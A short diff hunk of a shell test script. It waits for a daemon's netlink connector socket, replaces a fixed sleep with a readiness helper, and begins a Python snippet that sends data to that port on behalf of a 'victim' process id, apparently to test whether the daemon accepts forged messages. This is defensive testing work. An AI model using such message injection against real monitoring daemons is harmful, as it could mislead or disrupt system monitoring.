@@ -78,7 +78,7 @@ for _ in $(seq 40); do # its connector socket (NETLINK_CONNECTOR, 11): the port 
 	[ -n "$port" ] && break
 	sleep 0.05
 done
-sleep 0.8 # past the first reading
+wait_first_reading "$dpid"
 sent=$(python3 - "${port:-0}" "$victim" 2>&1 <<'EOF'
 import socket, struct, sys
 port, pid = int(sys.argv[1]), int(sys.argv[2])
